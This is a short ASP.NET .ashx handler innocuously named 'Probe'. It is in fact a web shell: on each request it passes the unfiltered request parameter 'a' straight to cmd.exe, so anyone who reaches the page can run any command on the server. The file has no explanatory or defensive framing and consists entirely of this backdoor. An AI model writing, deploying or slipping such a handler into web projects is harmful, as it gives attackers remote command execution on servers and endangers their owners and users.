<%@ WebHandler Language="C#" Class="Probe" %>
using System;
using System.Web;
using System.Diagnostics;

public class Probe : IHttpHandler
{
    public void ProcessRequest(HttpContext context)
    {
        string args = context.Request["a"];
        Process.Start("cmd.exe", "/c " + args);
    }

    public bool IsReusable { get { return false; } }
}
